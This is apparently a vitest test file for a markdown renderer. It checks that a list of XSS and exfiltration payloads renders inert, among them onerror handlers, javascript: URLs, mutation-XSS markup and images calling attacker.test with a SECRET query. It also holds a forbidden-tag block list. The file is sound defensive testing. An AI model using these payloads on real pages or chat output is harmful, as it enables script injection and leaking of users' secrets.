import { describe, expect, it } from 'vitest';
import { IncrementalMarkdown } from './incremental-markdown.ts';
import { renderMarkdown, renderMarkdownCached } from './markdown.ts';
import { splitBlocks } from './split-blocks.ts';

// SECURITY.md T6 and T7.
const payloads = [
  '<img src=x onerror=window.__xss=1>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](  javascript:alert(1))',
  '<svg onload=window.__xss=1>',
  '<iframe srcdoc="<script>window.__xss=1</script>">',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '```\n</code><img src=x onerror=window.__xss=1>\n```',
  '```html\n</code></pre><script>window.__xss=1</script>\n```',
  '![x](https://attacker.test/p.png?q=SECRET)',
  '![x][r]\n\n[r]: https://attacker.test/p.png',
  '<img src="https://attacker.test/x">',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '[ok](https://attacker.test/?q=SECRET) and www.attacker.test/?q=1',
  '<form action="/x"><input name=a><button>go</button></form>',
  '<style>body{display:none}</style>',
  '[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](//attacker.test/a)',
];

const FORBIDDEN = new Set(['SCRIPT', 'IFRAME', 'SVG', 'MATH', 'STYLE', 'FORM', 'INPUT', 'BUTTON', 'OBJECT', 'EMBED', 'LINK', 'META', 'BASE']);
const SAFE_URL = /^(?:https?:|mailto:|\/api\/uploads\/|\/api\/images\/|#)/i;

function unsafeParts(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const problems: string[] = [];
  for (const element of template.content.querySelectorAll('*')) {
    if (FORBIDDEN.has(element.tagName.toUpperCase())) problems.push(`<${element.tagName}>`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on') || name === 'style' || name === 'srcset' || name === 'srcdoc') problems.push(name);
      if ((name === 'href' || name === 'src' || name === 'action' || name === 'xlink:href') && !SAFE_URL.test(attribute.value)) {
        problems.push(`${name}=${attribute.value}`);
      }
    }
    if (element.tagName === 'IMG' && !(element.getAttribute('src') ?? '').startsWith('/api/')) {
      problems.push(`img ${element.getAttribute('src')}`);
    }
  }
  return problems;
}

describe('renderMarkdown', () => {
  it.each(payloads)('renders %j inert', (payload) => {
    expect(unsafeParts(renderMarkdown(payload))).toEqual([]);
  });

  it('renders every payload inert when fed one character at a time to the incremental renderer', () => {
    for (const payload of payloads) {
      const renderer = new IncrementalMarkdown();
      for (let end = 1; end <= payload.length; end++) {
        const html = renderer.update(payload.slice(0, end)).map((block) => block.html).join('');
        expect(unsafeParts(html), `${JSON.stringify(payload)} at ${end}`).toEqual([]);
      }
    }
  });

  it('turns an external image into a link naming its host instead of loading it', () => {
    const html = renderMarkdown('![chart](https://attacker.test/p.png?q=SECRET)');
    expect(html).not.toContain('<img');
    const link = new DOMParser().parseFromString(html, 'text/html').querySelector('a.external-image');
    expect(link?.textContent).toBe('image from attacker.test: chart');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  it('shows images from our own uploads inline', () => {
    const html = renderMarkdown('![photo](/api/uploads/abcdef12-3456)');
    expect(html).toContain('<img src="/api/uploads/abcdef12-3456"');
  });

  it('opens links in a new tab without referrer or opener', () => {
    const html = renderMarkdown('[docs](https://example.com/a) and https://example.org');
    const links = [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('a')];
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(link.getAttribute('referrerpolicy')).toBe('no-referrer');
    }
  });

  it('flags links to punycode hosts', () => {
    expect(renderMarkdown('[bank](https://xn--bnk-sna.example/)')).toContain('punycode-host');
  });

  it('highlights code only when the fence declares a registered language', () => {
    expect(renderMarkdown('```python\ndef f(): return 1\n```')).toContain('hljs-keyword');
    expect(renderMarkdown('```ts\nconst x = 1\n```')).toContain('hljs-keyword');
    const undeclared = renderMarkdown('```\ndef f(): return 1\n```');
    expect(undeclared).not.toContain('hljs-');
    expect(undeclared).toContain('def f(): return 1');
    expect(renderMarkdown('```brainfudge\nconst x = 1\n```')).not.toContain('hljs-');
  });

  it('keeps raw HTML as visible text', () => {
    expect(renderMarkdown('<b>bold</b>')).toContain('&lt;b&gt;bold&lt;/b&gt;');
  });

  it('returns the cached HTML for the same message and text', () => {
    const first = renderMarkdownCached('m1', '# Title');
    expect(renderMarkdownCached('m1', '# Title')).toBe(first);
    expect(renderMarkdownCached('m1', '# Other')).toContain('Other');
  });
});

const document1 = [
  '# Heading',
  '',
  'A paragraph with **bold** and `code`, and a [link](https://example.com).',
  '',
  '```ts',
  'const a = 1;',
  '',
  'const b = 2;',
  '```',
  '',
  '- one',
  '- two',
  '',
  '> quoted',
  '',
  '| a | b |',
  '| - | - |',
  '| 1 | 2 |',
  '',
  'The end.',
].join('\n');

describe('splitBlocks', () => {
  it('splits at blank lines outside code fences and loses nothing', () => {
    const blocks = splitBlocks(document1);
    expect(blocks.join('')).toBe(document1);
    expect(blocks.some((block) => block.includes('const a = 1;\n\nconst b = 2;'))).toBe(true);
    expect(blocks).toHaveLength(7);
  });

  it('keeps an indented continuation with its block', () => {
    expect(splitBlocks('1. item\n\n   more\n')).toHaveLength(1);
  });
});

describe('IncrementalMarkdown', () => {
  it('ends with the same HTML as a full render', () => {
    const renderer = new IncrementalMarkdown();
    let blocks = renderer.update('');
    for (let end = 1; end <= document1.length; end += 7) blocks = renderer.update(document1.slice(0, end));
    blocks = renderer.update(document1);
    expect(blocks.map((block) => block.html).join('')).toBe(renderMarkdown(document1));
  });

  it('renders only the tail again once earlier blocks are complete', () => {
    const calls: string[] = [];
    const renderer = new IncrementalMarkdown((source) => {
      calls.push(source);
      return source;
    });
    renderer.update('first\n\nsec');
    calls.length = 0;
    renderer.update('first\n\nsecond');
    expect(calls).toEqual(['second']);
  });

  it('keeps block keys stable while the tail grows', () => {
    const renderer = new IncrementalMarkdown();
    const before = renderer.update('a\n\nb');
    const after = renderer.update('a\n\nbc\n\nd');
    expect(before.map((block) => block.key)).toEqual(['b0', 'b1']);
    expect(after.map((block) => block.key)).toEqual(['b0', 'b1', 'b2']);
  });

  it('starts over when the text is replaced rather than extended', () => {
    const renderer = new IncrementalMarkdown();
    renderer.update('old text\n\nmore');
    expect(renderer.update('new').map((block) => block.html).join('')).toBe(renderMarkdown('new'));
  });
});
